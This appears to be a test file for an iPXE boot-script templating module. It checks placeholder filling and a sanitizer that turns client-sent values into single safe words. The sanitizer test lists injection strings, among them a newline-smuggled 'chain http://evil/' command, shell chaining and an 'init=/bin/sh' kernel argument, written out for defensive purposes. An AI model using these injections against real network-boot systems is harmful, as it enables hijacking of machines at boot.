/** What fills the names in a script. */

import t from "tap";
import { fillScript, harmless } from "../../../lib/boot/ipxe/template.js";

await t.test("names in braces are filled in, in any case; iPXE's own settings stay", (t) => {
  const facts = new Map([
    ["mac", "52-54-00-aa-bb-01"],
    ["vlanid", "7"],
    ["serial", ""],
    ["console", ""],
  ]);
  t.equal(fillScript("echo {mac} {MAC} {vlanID}", facts), "echo 52-54-00-aa-bb-01 52-54-00-aa-bb-01 7");
  t.equal(fillScript("echo ${mac} ${net0/mac} ${vlanid}", facts), "echo ${mac} ${net0/mac} ${vlanid}");
  t.equal(fillScript("echo {nothing} { mac }", facts), "echo {nothing} { mac }", "what means nothing to us stays");
  t.equal(fillScript("x{console}x {serial}", facts), "xx ${serial}", "what iPXE knows of itself it fills in itself");
  t.end();
});

await t.test("D2 what a client sends stays one word, whatever it holds", (t) => {
  const attacks: Readonly<Record<string, string>> = {
    "Dell Inc.": "Dell_Inc.",
    "host\nshell": "host_shell",
    "host\r\n#!ipxe\nchain http://evil/": "host_ipxe_chain_http://evil/",
    "a || shell": "a_shell",
    "a && sanboot x": "a_sanboot_x",
    "a init=/bin/sh": "a_init_/bin/sh",
    "${net0/gateway}": "net0/gateway",
    "{mac}": "mac",
    "--autofree": "autofree",
    "a#b;c|d&e": "a_b_c_d_e",
    "'quoted\" \\": "quoted",
    "\0\x1b[31m": "31m",
    naïve: "na_ve",
    "\u2028": "",
    "": "",
  };
  for (const [sent, word] of Object.entries(attacks)) t.equal(harmless(sent), word, encodeURI(sent));
  t.equal(harmless("x".repeat(10_000)).length, 255);
  const filled = fillScript("set name {hostname}\nboot", new Map([["hostname", "x\nshell"]]));
  t.equal(filled.split("\n").length, 2);
  t.end();
});
